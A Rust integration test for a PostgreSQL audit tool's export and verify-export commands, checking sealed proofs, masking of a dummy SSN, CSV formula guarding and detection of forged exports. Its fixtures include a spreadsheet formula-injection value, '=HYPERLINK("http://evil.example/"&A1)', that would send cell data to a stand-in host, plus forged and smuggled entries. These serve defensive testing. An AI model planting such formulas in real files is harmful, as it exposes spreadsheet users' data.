//! `pg-audit export` and `pg-audit verify-export`: entries for auditors, live and archived, in
//! JSON lines, CSV and Parquet (read back by DuckDB), with a proof checked without the
//! database — and what it says when the file, the proof or the seals were altered.

#[path = "support/cli.rs"]
mod cli;

use cli::{ok, pg_audit, psql};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use pg_audit_tempdb::TempDatabase;
use serde_json::Value;

/// Runs `pg-audit seal` until every row is sealed (other tests' transactions on the shared
/// server hold the horizon back a while).
fn seal_all(db: &TempDatabase<'_>) {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        ok(&["seal"], db.url());
        let unsealed = psql(
            db,
            "SELECT count(*) FROM audit.auditlog WHERE id > (SELECT coalesce(max(last_id), 0) FROM audit.auditlog_seals)",
        );
        if unsealed == "0" {
            return;
        }
        assert!(Instant::now() < deadline, "rows stayed unsealed");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// `verify-export`'s exit code and output.
fn verify_export(file: &Path, seals: Option<&Path>) -> (Option<i32>, String) {
    let mut args = vec!["verify-export".to_owned(), file.display().to_string()];
    if let Some(s) = seals {
        args.extend(["--seals".to_owned(), s.display().to_string()]);
    }
    let out = Command::new(env!("CARGO_BIN_EXE_pg-audit"))
        .args(&args)
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    (
        out.status.code(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

const SSN: &str = "123-45-6789";

/// A log with an archived month and a live one: `people` (ssn masked) and `orders`, changed by
/// two users; a value a spreadsheet would run; everything sealed; the old month archived.
fn fill(db: &TempDatabase<'_>, archive: &Path) {
    let url = db.url();
    psql(db, &ok(&["sql", "table"], url));
    psql(
        db,
        "CREATE TABLE people (id int PRIMARY KEY, name text, ssn text);
         CREATE TABLE orders (id int PRIMARY KEY, total numeric, note text);
         CREATE TABLE \"=1+1\" (id int PRIMARY KEY);",
    );
    psql(
        db,
        &ok(
            &[
                "sql",
                "trigger",
                "--table",
                "people",
                "--mask-fields",
                "ssn",
            ],
            url,
        ),
    );
    psql(db, &ok(&["sql", "trigger", "--table", "orders"], url));
    // A table name a spreadsheet would compute.
    psql(db, &ok(&["sql", "trigger", "--table", "public.=1+1"], url));
    psql(
        db,
        &format!(
            "DO $$
             DECLARE lo timestamptz := date_trunc('month', now() - interval '8 months');
             BEGIN
                 EXECUTE format('CREATE TABLE audit.auditlog_old PARTITION OF audit.auditlog FOR VALUES FROM (%L) TO (%L)',
                                lo, lo + interval '1 month');
             END $$;
             BEGIN;
             SET LOCAL pg_audit.context = '{{\"user_id\": \"alice\"}}';
             INSERT INTO people SELECT g, 'Person ' || g, '{SSN}' FROM generate_series(1, 40) AS g;
             INSERT INTO orders SELECT g, g * 1.5, 'n' FROM generate_series(1, 30) AS g;
             COMMIT;
             -- Those happened eight months ago.
             UPDATE audit.auditlog SET changed_at = date_trunc('month', now() - interval '8 months') + id * interval '1 second';
             BEGIN;
             SET LOCAL pg_audit.context = '{{\"user_id\": \"bob\"}}';
             UPDATE people SET name = 'Renamed' WHERE id <= 5;
             UPDATE orders SET note = '=HYPERLINK(\"http://evil.example/\"&A1)' WHERE id = 1;
             UPDATE orders SET note = E'quote \" comma , newline\\n and ''' WHERE id = 2;
             INSERT INTO \"=1+1\" VALUES (1);
             COMMIT;
             BEGIN;
             SET LOCAL pg_audit.context = '{{\"user_id\": \"alice\"}}';
             DELETE FROM orders WHERE id = 3;
             COMMIT;"
        ),
    );
    seal_all(db);
    ok(
        &[
            "archive",
            "--older-than",
            "1 month",
            "--to",
            &archive.display().to_string(),
        ],
        url,
    );
}

#[test]
fn exports_are_proven_by_the_seals_in_every_format_and_alterations_are_named() {
    let db = pg_audit_tempdb::shared()
        .unwrap()
        .create_database("export")
        .unwrap();
    let dir = std::env::temp_dir().join(format!("pg-audit-export-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    fill(&db, &dir.join("archive"));
    let url = db.url().to_owned();
    let seals = dir.join("seals.jsonl");
    ok(&["seal", "--export", &seals.display().to_string()], &url);
    assert_eq!(
        psql(&db, "SELECT count(*) FROM audit.auditlog_archives"),
        "1"
    );

    let everything = ["--from", "2000-01-01", "--until", "2100-01-01"];
    for format in ["jsonl", "csv", "parquet"] {
        let file = dir.join(format!("all.{format}"));
        let mut args = vec!["export", "--format", format, "--output"];
        let path = file.display().to_string();
        args.push(&path);
        args.extend(everything);
        let out = ok(&args, &url);
        // 40 + 30 archived; 5 + 3 + 1 live.
        assert!(
            out.contains("79 entries") && out.contains("70 from the archive"),
            "{out}"
        );
        let (code, said) = verify_export(&file, Some(&seals));
        assert_eq!(code, Some(0), "{format}: {said}");
        assert!(said.contains("ok: 79 entries"), "{said}");
        // The masked value is nowhere in the file.
        let bytes = std::fs::read(&file).unwrap();
        assert!(
            !bytes.windows(SSN.len()).any(|w| w == SSN.as_bytes()),
            "{format} holds the masked value"
        );
        // An export never overwrites.
        let again = pg_audit(&args, &url);
        assert!(!again.status.success());
        assert!(String::from_utf8_lossy(&again.stderr).contains("exists"));
    }

    // The CSV cell a spreadsheet would compute is guarded (a formula inside a JSON value is
    // not at a cell's start); the JSON lines hold it as it is.
    let csv = std::fs::read_to_string(dir.join("all.csv")).unwrap();
    assert!(csv.contains(",\"'=1+1\","), "{csv}");
    assert!(!csv.contains(",\"=1+1\","));
    assert!(
        std::fs::read_to_string(dir.join("all.jsonl"))
            .unwrap()
            .contains("\"table_name\":\"=1+1\"")
    );
    // DuckDB reads the Parquet export: the same entries.
    let script = format!(
        "import duckdb, json; print(json.dumps(duckdb.sql(\"SELECT count(*), count(DISTINCT id), sum(CASE WHEN new_values LIKE '%hmac-sha256:%' THEN 1 ELSE 0 END) FROM read_parquet('{}')\").fetchall()[0]))",
        dir.join("all.parquet").display()
    );
    let out = Command::new("python3")
        .args(["-c", &script])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "DuckDB (scripts/test installs it): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let counts: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(counts, serde_json::json!([79, 79, 45]));

    // Filters: one table, one user, a time range.
    let file = dir.join("bob-orders.jsonl");
    let path = file.display().to_string();
    let mut args = vec![
        "export", "--table", "orders", "--user", "bob", "--output", &path,
    ];
    args.extend(everything);
    let out = ok(&args, &url);
    assert!(out.contains("2 entries"), "{out}");
    let lines: Vec<Value> = std::fs::read_to_string(&file)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(lines.iter().all(|l| l["table_name"] == "orders"
        && l["context"]["user_id"] == "bob"
        && l["operation"] == "UPDATE"));
    assert_eq!(verify_export(&file, Some(&seals)).0, Some(0));
    let recent = dir.join("recent.jsonl");
    let out = ok(
        &[
            "export",
            "--from",
            &psql(&db, "SELECT (now() - interval '1 day')::text"),
            "--until",
            "2100-01-01",
            "--output",
            &recent.display().to_string(),
        ],
        &url,
    );
    assert!(
        out.contains("9 entries") && out.contains("0 from the archive"),
        "{out}"
    );

    // Alterations: a value in the file, then the proof's digest, then seals not the log's.
    let text = std::fs::read_to_string(dir.join("all.jsonl")).unwrap();
    let altered = dir.join("altered.jsonl");
    std::fs::write(&altered, text.replacen("\"Renamed\"", "\"Forged\"", 1)).unwrap();
    std::fs::copy(
        dir.join("all.jsonl.proof.jsonl"),
        dir.join("altered.jsonl.proof.jsonl"),
    )
    .unwrap();
    let (code, said) = verify_export(&altered, None);
    assert_eq!(code, Some(1), "{said}");
    assert!(
        said.contains("is not the file the proof was made for"),
        "{said}"
    );
    // The file's digest put right in the proof: the entry itself is caught.
    let sum = String::from_utf8(
        Command::new("sha256sum")
            .arg(&altered)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .split_whitespace()
    .next()
    .unwrap()
    .to_owned();
    let proof = std::fs::read_to_string(dir.join("altered.jsonl.proof.jsonl")).unwrap();
    let mut header: Value = serde_json::from_str(proof.lines().next().unwrap()).unwrap();
    header["sha256"] = Value::String(sum);
    let rest: Vec<&str> = proof.lines().skip(1).collect();
    std::fs::write(
        dir.join("altered.jsonl.proof.jsonl"),
        format!("{header}\n{}\n", rest.join("\n")),
    )
    .unwrap();
    let (code, said) = verify_export(&altered, None);
    assert_eq!(code, Some(1), "{said}");
    assert!(
        said.contains("differs from the row its seal covers"),
        "{said}"
    );

    // Forgeries whose file digest is put right in the proof: an entry given twice, a field
    // added, a key given twice, an entry the export's filter does not select.
    let forge = |name: &str, text: String, from: &str| {
        let file = dir.join(name);
        std::fs::write(&file, &text).unwrap();
        let sum = String::from_utf8(
            Command::new("sha256sum")
                .arg(&file)
                .output()
                .unwrap()
                .stdout,
        )
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
        let proof = std::fs::read_to_string(dir.join(format!("{from}.proof.jsonl"))).unwrap();
        let mut header: Value = serde_json::from_str(proof.lines().next().unwrap()).unwrap();
        header["sha256"] = Value::String(sum);
        header["rows"] = Value::from(text.lines().count());
        let rest: Vec<&str> = proof.lines().skip(1).collect();
        std::fs::write(
            dir.join(format!("{name}.proof.jsonl")),
            format!("{header}\n{}\n", rest.join("\n")),
        )
        .unwrap();
        let (code, said) = verify_export(&file, Some(&seals));
        assert_eq!(code, Some(1), "{name}: {said}");
        said
    };
    let first = text.lines().next().unwrap();
    let said = forge("twice.jsonl", format!("{text}{first}\n"), "all.jsonl");
    assert!(said.contains("is in the export twice"), "{said}");
    let said = forge(
        "added.jsonl",
        text.replacen("{\"id\":", "{\"approved_by\":\"CFO\",\"id\":", 1),
        "all.jsonl",
    );
    assert!(said.contains("cannot be read"), "{said}");
    let said = forge(
        "keytwice.jsonl",
        text.replacen("{\"id\":", "{\"operation\":\"DELETE\",\"id\":", 1),
        "all.jsonl",
    );
    assert!(said.contains("cannot be read"), "{said}");
    let bob = std::fs::read_to_string(dir.join("bob-orders.jsonl")).unwrap();
    let people_line = text
        .lines()
        .find(|l| l.contains("\"table_name\":\"people\""))
        .unwrap();
    let said = forge(
        "smuggled.jsonl",
        format!("{bob}{people_line}\n"),
        "bob-orders.jsonl",
    );
    assert!(said.contains("is not one the export selects"), "{said}");

    // Seals that are not the ones kept apart.
    let forged_seals = dir.join("forged-seals.jsonl");
    let kept = std::fs::read_to_string(&seals).unwrap();
    std::fs::write(
        &forged_seals,
        kept.replacen("\"hash\":\"", "\"hash\":\"00", 1),
    )
    .unwrap();
    let (code, said) = verify_export(&dir.join("all.jsonl"), Some(&forged_seals));
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("is not among the seals given"), "{said}");

    // Entries newer than the last seal are exported, and not proven.
    psql(&db, "UPDATE orders SET note = 'late' WHERE id = 4");
    let late = dir.join("late.jsonl");
    let out = ok(
        &[
            "export",
            "--from",
            "2000-01-01",
            "--until",
            "2100-01-01",
            "--output",
            &late.display().to_string(),
        ],
        &url,
    );
    assert!(out.contains("newer than the last seal"), "{out}");
    let (code, said) = verify_export(&late, Some(&seals));
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("not proven: 1 of 80"), "{said}");

    // A misspelt table is refused rather than exported empty; a dangling link is not replaced.
    let out = pg_audit(
        &[
            "export",
            "--from",
            "2000-01-01",
            "--until",
            "2100-01-01",
            "--table",
            "ordres",
            "-o",
            &dir.join("x.jsonl").display().to_string(),
        ],
        &url,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("is not audited"));
    let link = dir.join("link.jsonl");
    std::os::unix::fs::symlink(dir.join("nowhere"), &link).unwrap();
    let out = pg_audit(
        &[
            "export",
            "--from",
            "2000-01-01",
            "--until",
            "2100-01-01",
            "-o",
            &link.display().to_string(),
        ],
        &url,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("exists"));
    // The proof records the times a relative --from resolved to.
    let proof = std::fs::read_to_string(dir.join("recent.jsonl.proof.jsonl")).unwrap();
    let header: Value = serde_json::from_str(proof.lines().next().unwrap()).unwrap();
    assert!(header["from"].as_str().unwrap().ends_with('Z'), "{header}");

    // Bad input is named.
    let out = pg_audit(
        &[
            "export",
            "--from",
            "yesterday-ish",
            "--until",
            "2100-01-01",
            "-o",
            "/tmp/x",
        ],
        &url,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--from"));
    let _ = std::fs::remove_dir_all(&dir);
}
